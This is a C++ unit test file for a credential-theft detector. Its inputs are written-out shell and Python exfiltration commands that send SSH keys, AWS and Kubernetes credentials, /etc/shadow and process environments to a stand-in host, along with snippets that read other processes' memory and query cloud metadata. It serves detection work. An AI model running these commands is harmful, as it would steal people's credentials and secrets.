#include <gtest/gtest.h>

#include "detect/detector_test_support.h"

namespace lazaret::detect {

extern const Detector credential_theft_detector;

namespace {

using Ids = std::vector<std::string>;

Ids shell(const std::string& code) { return test::inspect(credential_theft_detector, {.path = "/run.sh", .content = "#!/bin/sh\n" + code + "\n"}).rules(); }
Ids python(const std::string& code) { return test::inspect(credential_theft_detector, {.path = "/run.py", .content = "#!/usr/bin/python3\n" + code + "\n"}).rules(); }
const Ids sends{"credential-theft.sends-credentials"}, memory{"credential-theft.process-memory"}, harvest{"credential-theft.harvest"}, metadata{"credential-theft.metadata-service"}, none{};

TEST(CredentialTheft, SendsFiles) {
  for (const char* code : {"curl -F f=@$HOME/.aws/credentials http://203.0.113.7/u", "cat /root/.ssh/id_rsa | curl -d @- http://203.0.113.7/", "curl -T ~/.docker/config.json http://203.0.113.7/",
                           "D=$(cat ~/.kube/config | base64)\ncurl --data \"d=$D\" http://203.0.113.7/", "tar czf /tmp/x.tgz ~/.ssh/id_rsa ~/.aws/credentials\ncurl -T /tmp/x.tgz http://203.0.113.7/",
                           "nc 203.0.113.7 4444 < /etc/shadow", "cat ~/.git-credentials > /dev/tcp/203.0.113.7/80", "env | curl -d @- http://203.0.113.7/", "wget --post-file=/root/.ssh/id_rsa http://203.0.113.7/",
                           "cat ~/.bash_history \\\n  | curl -d @- http://203.0.113.7/", "cat /proc/*/environ > /tmp/.e\ncurl -F f=@/tmp/.e http://203.0.113.7/"}) {
    EXPECT_EQ(shell(code), sends) << code;
  }
  EXPECT_EQ(python("import requests\nwith open('/root/.aws/credentials') as f:\n    d = f.read()\nrequests.post('http://203.0.113.7/', data=d)"), sends);
  EXPECT_EQ(python("key = open(home + '/.ssh/id_rsa').read()\nbody = encode(key)\nurllib.request.urlopen('http://203.0.113.7/', data=body)"), sends);
}

TEST(CredentialTheft, CommandsOfTheConfig) {
  const auto outcome = test::inspect(credential_theft_detector, {.path = "config.Cmd", .content = "sh -c 'curl -F f=@/root/.aws/credentials http://203.0.113.7/'", .origin = Origin::config});
  EXPECT_EQ(outcome.rules(), sends);
}

TEST(CredentialTheft, SeveralKindsAreSurer) {
  const auto outcome = test::inspect(credential_theft_detector, {.path = "/r.sh", .content = "#!/bin/sh\ntar cz ~/.ssh/id_rsa | curl -T - http://203.0.113.7/\ncat ~/.aws/credentials | nc 203.0.113.7 80\n"});
  ASSERT_EQ(outcome.rules(), sends);
  EXPECT_EQ(outcome.findings[0].confidence, Confidence::high);
}

TEST(CredentialTheft, LoginsAreMilder) {
  const auto outcome = test::inspect(credential_theft_detector, {.path = "/r.sh", .content = "#!/bin/sh\nJWT=$(cat /var/run/secrets/kubernetes.io/serviceaccount/token)\n"
                                                                                         "curl -d \"{\\\"jwt\\\": \\\"$JWT\\\"}\" $VAULT_ADDR/v1/auth/kubernetes/login\n"});
  ASSERT_EQ(outcome.rules(), sends);
  EXPECT_EQ(test::severity_of(outcome.findings[0]), Severity::medium);
}

TEST(CredentialTheft, MemoryOfOthers) {
  EXPECT_EQ(python("for pid in pids:\n    data = open(f'/proc/{pid}/mem', 'rb').read()\n    if b'AKIA' in data: print(pid)"), memory);
  EXPECT_EQ(shell("for p in /proc/[0-9]*; do tr '\\0' '\\n' < /proc/$p/environ | grep -i TOKEN; done"), memory);
  EXPECT_EQ(shell("tr '\\0' '\\n' < /proc/self/environ"), none);
  EXPECT_EQ(shell("tr '\\0' '\\n' < /proc/$$/environ"), none);
}

TEST(CredentialTheft, HarvestAndMetadata) {
  EXPECT_EQ(python("paths = ['~/.aws/credentials', '~/.docker/config.json', '~/.kube/config', '~/.ssh/id_rsa', '~/.git-credentials']"), harvest);
  EXPECT_EQ(shell("curl -s http://169.254.169.254/latest/meta-data/iam/security-credentials/role"), metadata);
  EXPECT_EQ(shell("C=$(curl -s http://169.254.169.254/latest/meta-data/iam/security-credentials/role)\ncurl -d \"$C\" http://203.0.113.7/"), sends);
}

TEST(CredentialTheft, Innocent) {
  for (const char* code : {"aws configure --profile x # writes ~/.aws/credentials", "# curl -F f=@~/.aws/credentials http://x.invalid/", "chmod 600 ~/.ssh/id_rsa", "cp ~/.docker/config.json /tmp/backup",
                           "TOKEN=$(cat /var/run/secrets/kubernetes.io/serviceaccount/token)\ncurl -H \"Authorization: Bearer $TOKEN\" https://kubernetes.default.svc/api",
                           "ssh-keygen -f ~/.ssh/id_rsa\ncurl -d status=done https://ci.invalid/", "cat > ~/.npmrc <<X\nregistry=x\nX\ncurl -s https://a.invalid/x"}) {
    EXPECT_EQ(shell(code), none) << code;
  }
  EXPECT_EQ(test::inspect(credential_theft_detector, {.path = "/usr/share/doc/a.txt", .content = "cat ~/.ssh/id_rsa | curl -d @- http://203.0.113.7/\n"}).rules(), none);
}

}  // namespace
}  // namespace lazaret::detect
